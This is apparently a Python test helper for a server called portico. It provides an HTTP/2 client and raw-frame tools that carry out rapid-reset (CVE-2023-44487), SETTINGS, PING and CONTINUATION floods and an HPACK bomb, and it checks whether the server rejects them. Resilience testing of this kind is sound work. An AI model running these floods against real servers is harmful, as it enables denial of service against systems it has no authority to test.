#!/usr/bin/python3
"""HTTP/2 clients for portico's h2 tests: a well-behaved one and a hostile one.

H2Client    python-h2 (Debian python3-h2) over a plain or TLS (ALPN h2) socket. Streams are
            tracked (status, headers, body, trailers, RST code, the order in which they
            ended); received DATA is acknowledged at once; request bodies respect flow
            control. With validate=False the h2 library sends header blocks as given
            (uppercase names, connection-specific fields, missing pseudo-headers), which is
            how the RFC 9113 violation tests are written.

Raw frames  frame(), settings(), ping(), rst_stream(), headers(), continuation(), and a
            stateless HPACK encoding (static table + literals never indexed), for what
            python-h2 refuses to send: floods and malformed sequences.

Attacks     each opens its own connection, sends, watches for GOAWAY / RST_STREAM / EOF,
            and returns an AttackResult:
              rapid_reset(n)          HEADERS + RST_STREAM(CANCEL) for n streams (CVE-2023-44487)
              settings_flood(n)       n SETTINGS frames, never reading the ACKs
              ping_flood(n)           n PING frames, never reading the ACKs
              continuation_flood(n)   HEADERS without END_HEADERS, then n CONTINUATION frames
              hpack_bomb(refs)        one 4000-byte field put in the dynamic table, then
                                      referenced `refs` times (1 byte each) in one HEADERS
                                      frame: a ~refs*4 KB header list from 16 KB of input

CLI (for trying by hand): h2_attacks.py ATTACK PORT [--tls] [--n N]
"""

import argparse
import socket
import ssl
import struct
import sys
import time

DATA, HEADERS, PRIORITY, RST_STREAM, SETTINGS, PUSH_PROMISE, PING, GOAWAY, \
    WINDOW_UPDATE, CONTINUATION = range(10)
END_STREAM, ACK, END_HEADERS, PADDED, PRIORITY_FLAG = 0x1, 0x1, 0x4, 0x8, 0x20
PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"

ERRORS = {0: "NO_ERROR", 1: "PROTOCOL_ERROR", 2: "INTERNAL_ERROR", 3: "FLOW_CONTROL_ERROR",
          4: "SETTINGS_TIMEOUT", 5: "STREAM_CLOSED", 6: "FRAME_SIZE_ERROR",
          7: "REFUSED_STREAM", 8: "CANCEL", 9: "COMPRESSION_ERROR", 10: "CONNECT_ERROR",
          11: "ENHANCE_YOUR_CALM", 12: "INADEQUATE_SECURITY", 13: "HTTP_1_1_REQUIRED"}


def connect(host, port, tls=False, cafile=None, server_hostname="localhost", timeout=10.0,
            rcvbuf=None, alpn=("h2",)):
    s = socket.socket(socket.AF_INET6 if ":" in host else socket.AF_INET, socket.SOCK_STREAM)
    if rcvbuf:
        s.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, rcvbuf)
    s.settimeout(timeout)
    s.connect((host, port))
    s.setsockopt(socket.IPPROTO_TCP, socket.TCP_NODELAY, 1)
    if tls:
        ctx = ssl.SSLContext(ssl.PROTOCOL_TLS_CLIENT)
        if cafile:
            ctx.load_verify_locations(cafile)
        else:
            ctx.check_hostname = False
            ctx.verify_mode = ssl.CERT_NONE
        ctx.set_alpn_protocols(list(alpn))
        s = ctx.wrap_socket(s, server_hostname=server_hostname)
        if "h2" in alpn and s.selected_alpn_protocol() != "h2":
            raise RuntimeError("ALPN did not select h2: %r" % s.selected_alpn_protocol())
    return s


# ------------------------------------------------------------ H2Client ---

class Stream:
    def __init__(self, sid):
        self.id = sid
        self.status = None
        self.headers = []       # final response head, [(name, value)] as str
        self.interim = []
        self.data = bytearray()
        self.trailers = None
        self.ended = False
        self.reset = None       # RST_STREAM error code
        self.done_seq = None    # global order in which the stream finished
        self.done_time = None

    @property
    def finished(self):
        return self.ended or self.reset is not None

    def header(self, name):
        for n, v in self.headers:
            if n == name:
                return v
        return None

    def __repr__(self):
        return "<Stream %d status=%r reset=%r ended=%r body=%r>" % (
            self.id, self.status, self.reset, self.ended, bytes(self.data[:80]))


class H2Client:
    def __init__(self, host, port, tls=False, cafile=None, server_hostname="localhost",
                 timeout=10.0, validate=True, authority=None):
        import h2.config
        import h2.connection
        self.sock = connect(host, port, tls, cafile, server_hostname, timeout)
        self.tls = tls
        self.authority = authority or "%s:%d" % (server_hostname if tls else host, port)
        cfg = h2.config.H2Configuration(
            client_side=True, header_encoding=None,
            validate_outbound_headers=validate, normalize_outbound_headers=validate,
            validate_inbound_headers=False, normalize_inbound_headers=False)
        self.conn = h2.connection.H2Connection(cfg)
        self.conn.initiate_connection()
        self.streams = {}
        self.goaway = None          # h2.events.ConnectionTerminated
        self.goaway_seq = None
        self.inbuf = bytearray()
        self.pings_acked = 0
        self._hblock = bytearray()
        self._hflags = 0
        self.closed = False
        self.error = None
        self.seq = 0
        self.flush()

    # -- plumbing --------------------------------------------------------
    def flush(self):
        data = self.conn.data_to_send()
        if data and not self.closed:
            try:
                self.sock.sendall(data)
            except OSError as e:
                self.closed = True
                self.error = e

    def pump(self, timeout=1.0):
        """Read once (up to timeout) and process events; False when the connection is gone.

        Frames are split here and handed to python-h2 one at a time until a GOAWAY arrives;
        python-h2 closes its state machine on GOAWAY and rejects what follows, but a
        graceful GOAWAY lets the streams up to last_stream_id finish, so after it the
        frames are handled here (HPACK with python-h2's own decoder, WINDOW_UPDATEs sent)."""
        import h2.events
        import h2.exceptions
        if self.closed:
            return False
        self.sock.settimeout(timeout)
        try:
            d = self.sock.recv(262144)
        except socket.timeout:
            return True
        except (OSError, ssl.SSLError) as e:
            self.closed = True
            self.error = e
            return False
        if not d:
            self.closed = True
            return False
        self.inbuf += d
        for t, fl, sid, payload, raw in split_frames(self.inbuf):
            if self.goaway is not None:
                self._after_goaway(t, fl, sid, payload)
                continue
            try:
                events = self.conn.receive_data(raw)
            except h2.exceptions.ProtocolError as e:
                self.error = e
                self.flush()
                self.closed = True
                return False
            for ev in events:
                self._event(ev, h2)
        self.flush()
        return True

    def _event(self, ev, h2):
        sid = getattr(ev, "stream_id", None)
        st = self.streams.get(sid) if sid else None
        if isinstance(ev, h2.events.ResponseReceived) and st is not None:
            st.headers = [(n.decode("latin-1"), v.decode("latin-1")) for n, v in ev.headers]
            st.status = int(st.header(":status"))
        elif isinstance(ev, h2.events.InformationalResponseReceived) and st is not None:
            st.interim.append([(n.decode("latin-1"), v.decode("latin-1"))
                               for n, v in ev.headers])
        elif isinstance(ev, h2.events.TrailersReceived) and st is not None:
            st.trailers = [(n.decode("latin-1"), v.decode("latin-1")) for n, v in ev.headers]
        elif isinstance(ev, h2.events.DataReceived):
            if st is not None:
                st.data += ev.data
            if ev.flow_controlled_length:
                try:
                    self.conn.acknowledge_received_data(ev.flow_controlled_length, sid)
                except h2.exceptions.StreamClosedError:
                    pass
        elif isinstance(ev, h2.events.StreamEnded) and st is not None:
            st.ended = True
            self._done(st)
        elif isinstance(ev, h2.events.StreamReset) and st is not None:
            st.reset = ev.error_code
            self._done(st)
        elif isinstance(ev, h2.events.ConnectionTerminated):
            self.goaway = ev
            self.seq += 1
            self.goaway_seq = self.seq
        elif type(ev).__name__ == "PingAckReceived":
            self.pings_acked += 1

    def _after_goaway(self, t, fl, sid, payload):
        """Frames after a GOAWAY, without python-h2 (see pump)."""
        st = self.streams.get(sid)
        out = b""
        if t in (DATA, HEADERS) and fl & PADDED:
            payload = payload[1:len(payload) - payload[0]]
        if t == DATA:
            if st is not None:
                st.data += payload
            if payload:
                out += window_update(0, len(payload)) + window_update(sid, len(payload))
            if fl & END_STREAM and st is not None:
                st.ended = True
                self._done(st)
        elif t in (HEADERS, CONTINUATION):
            if t == HEADERS and fl & PRIORITY_FLAG:
                payload = payload[5:]
            if t == HEADERS:
                self._hblock = bytearray(payload)
                self._hflags = fl
            else:
                self._hblock += payload
            if fl & END_HEADERS and st is not None:
                hs = [(n.decode("latin-1") if isinstance(n, bytes) else n,
                       v.decode("latin-1") if isinstance(v, bytes) else v)
                      for n, v in self.conn.decoder.decode(bytes(self._hblock), raw=True)]
                status = dict(hs).get(":status")
                if status is not None and int(status) < 200:
                    st.interim.append(hs)
                elif status is not None:
                    st.headers = hs
                    st.status = int(status)
                else:
                    st.trailers = hs
                if self._hflags & END_STREAM:
                    st.ended = True
                    self._done(st)
        elif t == RST_STREAM and st is not None and len(payload) >= 4:
            st.reset = struct.unpack(">I", payload[:4])[0]
            self._done(st)
        elif t == PING and not fl & ACK:
            out += ping(payload, ack=True)
        elif t == GOAWAY and len(payload) >= 8:
            last, code = struct.unpack(">II", payload[:8])

            class _G:   # same attributes as h2.events.ConnectionTerminated
                pass
            g = _G()
            g.error_code, g.last_stream_id, g.additional_data = code, last & 0x7FFFFFFF, \
                payload[8:]
            self.goaway = g
        if out:
            try:
                self.sock.sendall(out)
            except OSError:
                pass

    def _done(self, st):
        if st.done_seq is None:
            self.seq += 1
            st.done_seq = self.seq
            st.done_time = time.monotonic()

    def wait(self, pred, timeout=10.0):
        deadline = time.monotonic() + timeout
        while not pred():
            left = deadline - time.monotonic()
            if left <= 0:
                return False
            if not self.pump(min(left, 0.5)):
                return pred()
        return True

    # -- requests --------------------------------------------------------
    def request_headers(self, method, path, headers=()):
        return [(":method", method), (":scheme", "https" if self.tls else "http"),
                (":authority", self.authority), (":path", path)] + list(headers)

    def send_headers(self, header_list, end_stream=True):
        sid = self.conn.get_next_available_stream_id()
        self.streams[sid] = Stream(sid)
        self.conn.send_headers(sid, [(n.encode("latin-1") if isinstance(n, str) else n,
                                      v.encode("latin-1") if isinstance(v, str) else v)
                                     for n, v in header_list], end_stream=end_stream)
        self.flush()
        return sid

    def request(self, method, path, headers=(), body=None, end_stream=True):
        sid = self.send_headers(self.request_headers(method, path, headers),
                                end_stream=body is None and end_stream)
        if body is not None:
            self.send_body(sid, body, end_stream)
        return sid

    def send_body(self, sid, data, end_stream=True, timeout=30.0):
        """Send data respecting flow control (pumps events while the window is closed)."""
        mv = memoryview(data)
        deadline = time.monotonic() + timeout
        while len(mv):
            st = self.streams[sid]
            if st.finished or self.closed:
                return False
            win = self.conn.local_flow_control_window(sid)
            n = min(win, self.conn.max_outbound_frame_size, len(mv))
            if n <= 0:
                if time.monotonic() > deadline:
                    raise TimeoutError("flow control window stayed closed")
                self.pump(0.2)
                continue
            self.conn.send_data(sid, mv[:n].tobytes(), end_stream=end_stream and n == len(mv))
            mv = mv[n:]
            self.flush()
        if end_stream and not len(data):
            self.conn.end_stream(sid)
            self.flush()
        return True

    def send_available(self, sid, data):
        """Send as much of data as the flow-control windows allow now; return the count."""
        n = 0
        while n < len(data):
            k = min(self.conn.local_flow_control_window(sid), self.conn.max_outbound_frame_size,
                    len(data) - n)
            if k <= 0:
                break
            self.conn.send_data(sid, data[n:n + k], end_stream=False)
            n += k
        self.flush()
        return n

    def end_stream(self, sid, trailers=None):
        if trailers:
            self.conn.send_headers(sid, [(n.encode(), v.encode()) for n, v in trailers],
                                   end_stream=True)
        else:
            self.conn.end_stream(sid)
        self.flush()

    def response(self, sid, timeout=10.0):
        st = self.streams[sid]
        self.wait(lambda: st.finished, timeout)
        return st

    def get(self, path, headers=(), timeout=10.0):
        return self.response(self.request("GET", path, headers), timeout)

    def ping_ok(self, timeout=5.0):
        """A PING answered: the connection is alive."""
        before = self.pings_acked
        self.conn.ping(b"portico!")
        self.flush()
        return self.wait(lambda: self.pings_acked > before, timeout)

    def close(self):
        try:
            if not self.closed:
                self.conn.close_connection()
                self.flush()
        except Exception:  # noqa: BLE001 (best effort)
            pass
        try:
            self.sock.close()
        except OSError:
            pass

    def __enter__(self):
        return self

    def __exit__(self, *a):
        self.close()


# ------------------------------------------------------------ raw frames ---

def frame(ftype, flags, sid, payload=b""):
    n = len(payload)
    return struct.pack(">BHBBI", (n >> 16) & 0xFF, n & 0xFFFF, ftype, flags,
                       sid & 0x7FFFFFFF) + payload


def settings(pairs=(), ack=False):
    return frame(SETTINGS, ACK if ack else 0, 0,
                 b"".join(struct.pack(">HI", k, v) for k, v in pairs))


def ping(data=b"12345678", ack=False):
    return frame(PING, ACK if ack else 0, 0, data)


def rst_stream(sid, code=8):
    return frame(RST_STREAM, 0, sid, struct.pack(">I", code))


def window_update(sid, inc):
    return frame(WINDOW_UPDATE, 0, sid, struct.pack(">I", inc))


def headers(sid, block, end_stream=True, end_headers=True):
    return frame(HEADERS, (END_STREAM if end_stream else 0) | (END_HEADERS if end_headers else 0),
                 sid, block)


def continuation(sid, block, end_headers=False):
    return frame(CONTINUATION, END_HEADERS if end_headers else 0, sid, block)


def hp_int(value, prefix_bits, first):
    """HPACK integer (RFC 7541 section 5.1) with the high bits of the first byte."""
    limit = (1 << prefix_bits) - 1
    if value < limit:
        return bytes([first | value])
    out = [first | limit]
    value -= limit
    while value >= 128:
        out.append((value & 0x7F) | 0x80)
        value >>= 7
    out.append(value)
    return bytes(out)


def hp_str(s):
    if isinstance(s, str):
        s = s.encode("latin-1")
    return hp_int(len(s), 7, 0) + s


def hp_literal(name, value, name_index=None):
    """Literal never indexed: leaves the dynamic table alone, so blocks can be reused."""
    if name_index:
        return hp_int(name_index, 4, 0x10) + hp_str(value)
    return b"\x10" + hp_str(name) + hp_str(value)


def request_block(path="/", authority="localhost", scheme="http", method="GET", extra=()):
    out = bytearray()
    out += {"GET": b"\x82", "POST": b"\x83"}.get(method) or hp_literal(":method", method, 2)
    out += b"\x86" if scheme == "http" else b"\x87"
    out += b"\x84" if path == "/" else hp_literal(":path", path, 4)
    out += hp_literal(":authority", authority, 1)
    for n, v in extra:
        out += hp_literal(n, v)
    return bytes(out)


def split_frames(buf):
    """Split complete frames off a bytearray: [(type, flags, sid, payload, raw bytes)]."""
    out = []
    while len(buf) >= 9:
        n = (buf[0] << 16) | (buf[1] << 8) | buf[2]
        if len(buf) < 9 + n:
            break
        raw = bytes(buf[:9 + n])
        sid = struct.unpack(">I", raw[5:9])[0] & 0x7FFFFFFF
        out.append((raw[3], raw[4], sid, raw[9:], raw))
        del buf[:9 + n]
    return out


def parse_frames(buf):
    """Split complete frames off a bytearray: [(type, flags, sid, payload)]."""
    out = []
    while len(buf) >= 9:
        n = (buf[0] << 16) | (buf[1] << 8) | buf[2]
        if len(buf) < 9 + n:
            break
        t, fl = buf[3], buf[4]
        sid = struct.unpack(">I", bytes(buf[5:9]))[0] & 0x7FFFFFFF
        out.append((t, fl, sid, bytes(buf[9:9 + n])))
        del buf[:9 + n]
    return out


class AttackResult:
    def __init__(self, name):
        self.name = name
        self.goaway = None          # (last_stream_id, error code name)
        self.closed = False         # EOF or reset seen
        self.send_error = None      # the server stopped reading / closed while we sent
        self.rst = {}               # stream id -> error code name
        self.statuses = {}          # stream id -> :status (first byte of HPACK we decode)
        self.headers_frames = 0
        self.frames = 0
        self.sent = 0
        self.elapsed = 0.0

    @property
    def rejected(self):
        """The server ended the connection (GOAWAY or close) or reset streams."""
        return self.goaway is not None or self.closed or bool(self.rst)

    def __repr__(self):
        return ("<%s goaway=%r closed=%r send_error=%r rst=%d headers=%d statuses=%r "
                "frames=%d sent=%d %.2fs>" % (
                    self.name, self.goaway, self.closed, self.send_error, len(self.rst),
                    self.headers_frames, dict(list(self.statuses.items())[:5]), self.frames,
                    self.sent, self.elapsed))


class RawH2:
    """A raw connection: preface + SETTINGS sent at once; frames read into an AttackResult."""

    def __init__(self, host, port, tls=False, name="raw", rcvbuf=None, timeout=10.0):
        self.sock = connect(host, port, tls, timeout=timeout, rcvbuf=rcvbuf)
        self.buf = bytearray()
        self.res = AttackResult(name)
        self.t0 = time.monotonic()
        self.decoder = None
        self.send(PREFACE + settings())

    def send(self, data):
        try:
            self.sock.sendall(data)
            self.res.sent += len(data)
            return True
        except (OSError, ssl.SSLError) as e:
            self.res.send_error = repr(e)
            return False

    def _handle(self, fr):
        t, fl, sid, payload = fr
        self.res.frames += 1
        if t == GOAWAY and len(payload) >= 8:
            last, code = struct.unpack(">II", payload[:8])
            self.res.goaway = (last & 0x7FFFFFFF, ERRORS.get(code, code))
        elif t == RST_STREAM and len(payload) >= 4:
            self.res.rst[sid] = ERRORS.get(struct.unpack(">I", payload)[0])
        elif t == HEADERS:
            self.res.headers_frames += 1
            # :status from the static table: 0x88 200, 0x89 204, 0x8a 206, 0x8b 304,
            # 0x8c 400, 0x8d 404, 0x8e 500; otherwise decode with hpack
            try:
                import hpack
                if self.decoder is None:
                    self.decoder = hpack.Decoder()
                    self.decoder.max_header_list_size = 1 << 30
                block = payload
                if fl & PADDED:
                    block = block[1:len(block) - block[0]]
                if fl & PRIORITY_FLAG:
                    block = block[5:]
                for n, v in self.decoder.decode(block):
                    if n == ":status":
                        self.res.statuses[sid] = int(v)
            except Exception:  # noqa: BLE001 (a frame we cannot decode is still counted)
                pass

    def poll(self, timeout=0.0):
        """Read what is there (waiting up to timeout for the first bytes)."""
        self.sock.settimeout(timeout if timeout > 0 else 0.0)
        got = False
        while True:
            try:
                d = self.sock.recv(262144)
            except (socket.timeout, BlockingIOError, ssl.SSLWantReadError):
                break
            except (OSError, ssl.SSLError):
                self.res.closed = True
                break
            if not d:
                self.res.closed = True
                break
            got = True
            self.buf += d
            for fr in parse_frames(self.buf):
                self._handle(fr)
            self.sock.settimeout(0.0)
        return got

    def read_until_end(self, timeout=5.0, until=None):
        """Read until EOF, until(result) is true, or timeout."""
        deadline = time.monotonic() + timeout
        while not self.res.closed and time.monotonic() < deadline:
            if until is not None and until(self.res):
                break
            self.poll(min(0.2, max(0.01, deadline - time.monotonic())))
        self.res.elapsed = time.monotonic() - self.t0
        return self.res

    def close(self):
        try:
            self.sock.close()
        except OSError:
            pass


def _batched(raw, chunks, read_between=True, stop_on_goaway=True):
    for data in chunks:
        if not raw.send(data):
            break
        if read_between:
            raw.poll(0.0)
            if stop_on_goaway and (raw.res.goaway is not None or raw.res.closed):
                break


def rapid_reset(host, port, tls=False, n=5000, path="/name", authority="localhost",
                batch=200, timeout=5.0):
    raw = RawH2(host, port, tls, "rapid_reset")
    block = request_block(path, authority, "https" if tls else "http")

    def gen():
        sid = 1
        for _ in range(0, n, batch):
            out = bytearray()
            for _ in range(batch):
                out += headers(sid, block, end_stream=True) + rst_stream(sid, 8)
                sid += 2
            yield bytes(out)
    _batched(raw, gen())
    res = raw.read_until_end(timeout)
    raw.close()
    return res


def settings_flood(host, port, tls=False, n=200000, batch=5000, timeout=5.0):
    raw = RawH2(host, port, tls, "settings_flood", rcvbuf=4096)
    one = settings([(4, 65535)])
    _batched(raw, (one * batch for _ in range(0, n, batch)), read_between=False)
    res = raw.read_until_end(timeout)
    raw.close()
    return res


def ping_flood(host, port, tls=False, n=500000, batch=5000, timeout=5.0):
    raw = RawH2(host, port, tls, "ping_flood", rcvbuf=4096)
    one = ping()
    _batched(raw, (one * batch for _ in range(0, n, batch)), read_between=False)
    res = raw.read_until_end(timeout)
    raw.close()
    return res


def continuation_flood(host, port, tls=False, n=10000, authority="localhost", path="/name",
                       batch=500, timeout=5.0):
    raw = RawH2(host, port, tls, "continuation_flood")
    block = request_block(path, authority, "https" if tls else "http")
    piece = hp_literal("x-flood", "c" * 16)

    def gen():
        yield headers(1, block, end_stream=True, end_headers=False)
        for _ in range(0, n, batch):
            yield continuation(1, piece) * batch
    _batched(raw, gen())
    res = raw.read_until_end(timeout)
    raw.close()
    return res


def hpack_bomb(host, port, tls=False, refs=12000, authority="localhost", path="/name",
               timeout=5.0):
    raw = RawH2(host, port, tls, "hpack_bomb")
    block = bytearray(request_block(path, authority, "https" if tls else "http"))
    # literal with incremental indexing, new name: 01000000, then name and value
    block += b"\x40" + hp_str("x-bomb") + hp_str("b" * 4000)
    block += b"\xbe" * refs          # indexed field 62: the entry just added
    assert len(block) <= 16384
    raw.send(headers(1, bytes(block), end_stream=True))
    res = raw.read_until_end(timeout, until=lambda r: 1 in r.statuses or 1 in r.rst
                             or r.goaway is not None)
    raw.close()
    return res


ATTACKS = {"rapid_reset": rapid_reset, "settings_flood": settings_flood,
           "ping_flood": ping_flood, "continuation_flood": continuation_flood,
           "hpack_bomb": hpack_bomb}


def main():
    ap = argparse.ArgumentParser(description=__doc__.split("\n")[0])
    ap.add_argument("attack", choices=sorted(ATTACKS))
    ap.add_argument("port", type=int)
    ap.add_argument("--host", default="127.0.0.1")
    ap.add_argument("--tls", action="store_true")
    ap.add_argument("--n", type=int)
    a = ap.parse_args()
    kw = {}
    if a.n is not None:
        kw["refs" if a.attack == "hpack_bomb" else "n"] = a.n
    print(ATTACKS[a.attack](a.host, a.port, a.tls, **kw))


if __name__ == "__main__":
    sys.exit(main())
